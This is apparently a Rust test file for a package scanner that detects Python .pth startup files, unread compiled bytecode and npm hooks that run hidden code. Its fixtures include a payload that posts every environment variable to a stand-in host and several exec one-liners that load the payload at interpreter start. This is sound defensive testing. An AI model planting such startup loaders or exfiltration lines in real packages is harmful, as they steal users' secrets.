//! What runs at every start of Python, and compiled code that nobody reads.

use super::testing::{self, MANIFEST};
use crate::inspect_tree;
use crate::unpack::{Content, Entry, Kind, Tree, text_file};
use customs_model::{SinkKind, SourceKind, Zone};

const METADATA: &str = "Name: a\nVersion: 1.0\n";

fn compiled(path: &str, flags: [u8; 4]) -> Entry {
    let bytes = [&[0xa7, 0x0d, 0x0d, 0x0a], flags.as_slice(), &[0; 40]].concat();
    Entry {
        path: path.to_owned(),
        length: bytes.len() as u64,
        content: Content::Whole(bytes.into()),
        kind: Kind::Bytecode,
        executable: false,
    }
}

/// What is not read of a wheel and yet reached by what runs.
fn unread(mut entries: Vec<Entry>) -> Vec<String> {
    entries.push(text_file("a-1.0.dist-info/METADATA", METADATA));
    let found = inspect_tree(&Tree {
        entries,
        ..Tree::default()
    });
    let parts = found.unread.into_iter().filter(|part| part.reached);
    parts.map(|part| part.path).collect()
}

#[test]
fn a_start_file_that_runs_a_file_of_its_own_is_followed_by_every_way_of_the_library() {
    let sent = "import os, urllib.request\n\
                urllib.request.urlopen('https://a.invalid', data=str(dict(os.environ)).encode())\n";
    let sends = |line: &str| {
        let found = testing::found(vec![
            text_file("a.pth", line),
            text_file("a/__init__.py", ""),
            text_file("a/data.txt", sent),
            text_file("x.dat", sent),
            text_file("a-1.0.dist-info/METADATA", METADATA),
        ]);
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.source == SourceKind::Environment && flow.zone == Zone::Start)
    };
    for line in [
        "import os,site;exec(open(os.path.join(site.getsitepackages()[0],'x.dat')).read())\n",
        "import os,sysconfig;exec(open(os.path.join(sysconfig.get_paths()['purelib'],'x.dat')).read())\n",
        "import os,sysconfig;exec(open(os.path.join(sysconfig.get_path('purelib'),'x.dat')).read())\n",
        "import pkgutil;exec(pkgutil.get_data('a','data.txt'))\n",
        "import importlib.resources as r;exec(r.files('a').joinpath('data.txt').read_text())\n",
        "import importlib.resources as r;exec(r.read_text('a','data.txt'))\n",
    ] {
        assert!(sends(line), "{line}");
    }
    assert!(!sends(
        "import os,site;open(os.path.join(site.getsitepackages()[0],'x.dat')).read()\n"
    ));
}

#[test]
fn code_that_nobody_can_read_is_told_where_honest_code_hardly_makes_any() {
    let opaque = |entries: Vec<Entry>| {
        let flows = testing::found(entries).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Opaque && flow.sink == SinkKind::DynamicCode)
    };
    let start = |line: &str| {
        opaque(vec![
            text_file("a.pth", line),
            text_file("a/__init__.py", ""),
            text_file("a-1.0.dist-info/METADATA", METADATA),
        ])
    };
    assert!(start("import sys;exec(open(sys.argv[0]).read())\n"));
    assert!(!start("import sys;sys.path.insert(0, sys.argv[0])\n"));
    let hook = |code: &str| {
        opaque(vec![
            text_file("package/package.json", MANIFEST),
            text_file("package/i.js", code),
        ])
    };
    assert!(hook("eval(require('./other').text)"));
    assert!(!hook("eval('1 + 1')"));
    assert!(!hook("module.exports = text => eval(text)"));
}

#[test]
fn compiled_python_without_its_source_is_a_module_that_nobody_read() {
    let init = |code: &str| text_file("a/__init__.py", code);
    let plain = [0, 0, 0, 0];
    let alone = unread(vec![
        init("from . import _c\n"),
        compiled("a/_c.pyc", plain),
    ]);
    assert_eq!(alone, ["a/_c.pyc"]);
    assert_eq!(
        unread(vec![compiled("a/__init__.pyc", plain)]),
        ["a/__init__.pyc"]
    );
    let start = unread(vec![init(""), compiled("sitecustomize.pyc", plain)]);
    assert_eq!(start, ["sitecustomize.pyc"]);
    // Beside its source it is not loaded; in its folder it is held against the source, if it does
    // not say that it never is.
    let beside = vec![
        init(""),
        text_file("a/b.py", ""),
        compiled("a/b.pyc", plain),
    ];
    assert_eq!(unread(beside), [""; 0]);
    let cached = |flags| {
        vec![
            init(""),
            compiled("a/__pycache__/__init__.cpython-313.pyc", flags),
        ]
    };
    assert_eq!(unread(cached(plain)), [""; 0]);
    assert_eq!(unread(cached([3, 0, 0, 0])), [""; 0]);
    assert_eq!(
        unread(cached([1, 0, 0, 0])),
        ["a/__pycache__/__init__.cpython-313.pyc"]
    );
}

#[test]
fn a_module_in_a_form_that_is_not_read_is_told() {
    let package = |code: &str| {
        let bytes: &[u8] = &[0x6d, 0x05, 0xde, 0xc0, 0, 0, 0, 0];
        vec![
            text_file("package/package.json", MANIFEST),
            text_file("package/i.js", code),
            Entry {
                path: "package/m.jsc".to_owned(),
                content: Content::Whole(bytes.into()),
                length: bytes.len() as u64,
                kind: Kind::Other,
                executable: false,
            },
        ]
    };
    let parts = |code: &str| {
        let found = inspect_tree(&Tree {
            entries: package(code),
            ..Tree::default()
        });
        let parts = found.unread.into_iter().filter(|part| part.reached);
        parts.map(|part| part.path).collect::<Vec<_>>()
    };
    assert_eq!(
        parts("require('bytenode'); require('./m.jsc');"),
        ["package/m.jsc"]
    );
    assert_eq!(parts("require('fs').statSync('./m.jsc');"), [""; 0]);
}
